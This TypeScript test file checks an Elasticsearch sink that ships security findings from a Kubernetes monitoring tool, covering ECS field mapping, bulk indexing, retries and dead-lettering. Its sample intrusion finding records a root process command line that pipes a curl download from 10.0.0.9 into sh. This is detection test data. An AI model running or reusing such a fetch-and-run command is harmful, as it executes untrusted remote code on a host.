import type { SinkConfigOf } from "@outlier/routing";
import { afterEach, describe, expect, it } from "vitest";
import { ElasticsearchSink, bulkBody, ecsDocument } from "./elasticsearch.ts";
import { resilient } from "./resilient.ts";
import { secretResolver } from "./secrets.ts";
import { startElasticsearchReceiver, type ElasticsearchReceiver } from "./testing/elasticsearch-receiver.ts";
import { execSession, replicaDeviation, unexpectedProcess } from "./testing/findings.ts";
import { json } from "./testing/http-receiver.ts";
import { deadLetters, delivery, describeHttpSinkContract } from "./testing/sink-contract.ts";

const API_KEY = "VnVhQ2ZHY0JDZGJrUW0tZTVhT3g6dWkybHAyYXhUTm1zeWFrdzl0dk5udw==";

function config(url: string): SinkConfigOf<"elasticsearch"> {
  return { kind: "elasticsearch", url, index: "outlier-findings", api_key_env: "ES_KEY", format: "ecs" };
}

describe("ecsDocument", () => {
  it("uses ECS field names for time, event, orchestrator, container, host and process", () => {
    const doc = ecsDocument(unexpectedProcess());
    expect(doc).toMatchObject({
      "@timestamp": "2024-05-01T10:00:00.123Z",
      ecs: { version: "8.11.0" },
      event: { kind: "alert", id: "f-unexpected-1", action: "process.unexpected", severity: 99, category: ["process", "intrusion_detection"] },
      orchestrator: {
        type: "kubernetes",
        cluster: { name: "prod-eu" },
        namespace: "payments",
        resource: { type: "pod", name: "checkout-7d9f8-abcde", parent: { type: "Deployment" } },
      },
      container: { name: "app" },
      host: { name: "node-a" },
      process: {
        executable: "/usr/bin/curl",
        name: "curl",
        command_line: "/usr/bin/curl -s http://10.0.0.9/x?a=1|sh",
        pid: 4242,
        working_directory: "/app",
        user: { id: "0" },
        parent: { executable: "/bin/sh", name: "sh", pid: 4200 },
      },
    });
    expect(doc.orchestrator.resource?.label).toContain("app.kubernetes.io/part-of:shop");
    expect(JSON.parse(doc.outlier.evidence)).toMatchObject({ replicas: { live: 3, runningBinary: 1 } });
  });

  it("puts the exec session's user in user.name", () => {
    expect(ecsDocument(execSession()).user).toEqual({ name: "alice@example.com" });
  });

  it("writes _bulk NDJSON: a create action with the finding id, the document, a trailing newline", () => {
    const lines = bulkBody([unexpectedProcess(), replicaDeviation()], "outlier-findings", "ecs").split("\n");
    expect(lines).toHaveLength(5);
    expect(lines[4]).toBe("");
    expect(JSON.parse(lines[0]!)).toEqual({ create: { _index: "outlier-findings", _id: "f-unexpected-1" } });
    expect(JSON.parse(lines[3]!)).toMatchObject({ event: { id: "f-replica-1" } });
    expect(JSON.parse(bulkBody([unexpectedProcess()], "i", "ocsf").split("\n")[1]!)).toMatchObject({ class_uid: 2004 });
  });
});

describe("ElasticsearchSink against a _bulk receiver", () => {
  let es: ElasticsearchReceiver;
  afterEach(async () => es.receiver.close());

  async function sink(): Promise<ElasticsearchSink> {
    es = await startElasticsearchReceiver({ apiKey: API_KEY });
    return new ElasticsearchSink(config(es.receiver.url), secretResolver({ env: { ES_KEY: API_KEY } }));
  }

  it("indexes every finding under its id; a redelivery is a 409 and counts as done", async () => {
    const s = await sink();
    const d = delivery({ findings: [unexpectedProcess(), execSession()] });
    await s.deliver(d);
    await s.deliver(d);
    expect([...es.documents.keys()]).toEqual(["outlier-findings/f-unexpected-1", "outlier-findings/f-exec-1"]);
    await s.close();
  });

  it("on a partial failure (item 429) retries only the failed documents", async () => {
    const s = await sink();
    es.itemFailures.set("f-exec-1", [429]);
    const { letters, options } = deadLetters();
    await resilient(s, options).deliver(delivery({ findings: [unexpectedProcess(), execSession(), replicaDeviation()] }));
    expect(letters).toEqual([]);
    expect(es.receiver.requests).toHaveLength(2);
    const retried = es.receiver.requests[1]!.body.split("\n").filter((line) => line.startsWith('{"create"'));
    expect(retried).toEqual(['{"create":{"_index":"outlier-findings","_id":"f-exec-1"}}']);
    expect(es.documents.size).toBe(3);
    await s.close();
  });

  it("dead-letters at once, with only the failed documents, when an item fails for good (400)", async () => {
    const s = await sink();
    es.itemFailures.set("f-exec-1", [400]);
    const { letters, options } = deadLetters();
    await resilient(s, options).deliver(delivery({ findings: [unexpectedProcess(), execSession()] }));
    expect(es.receiver.requests).toHaveLength(1);
    expect(letters).toHaveLength(1);
    expect(letters[0]!.failure).toMatchObject({ reason: "partial_failure", attempts: 1 });
    expect(letters[0]!.failure.message).toContain("mapper_parsing_exception");
    expect(letters[0]!.delivery.findings.map((f) => f.id)).toEqual(["f-exec-1"]);
    await s.close();
  });

  it("reports a wrong API key (401) as rejected", async () => {
    es = await startElasticsearchReceiver({ apiKey: API_KEY });
    const s = new ElasticsearchSink(config(es.receiver.url), secretResolver({ env: { ES_KEY: "wrong" } }));
    await expect(s.deliver(delivery())).rejects.toMatchObject({ reason: "rejected", status: 401 });
    await s.close();
  });
});

describeHttpSinkContract("elasticsearch", {
  async start() {
    const es = await startElasticsearchReceiver({ apiKey: API_KEY });
    const sink = new ElasticsearchSink(config(es.receiver.url), secretResolver({ env: { ES_KEY: API_KEY } }));
    return {
      sink,
      receiver: es.receiver,
      accepted: () => es.documents.size,
      close: async () => {
        await sink.close();
        await es.receiver.close();
      },
    };
  },
  rateLimited: (seconds) => json(429, { error: { type: "es_rejected_execution_exception", reason: "rejected" }, status: 429 }, { "retry-after": String(seconds) }),
  serverError: json(503, { error: { type: "unavailable_shards_exception", reason: "primary shard is not active" }, status: 503 }),
});
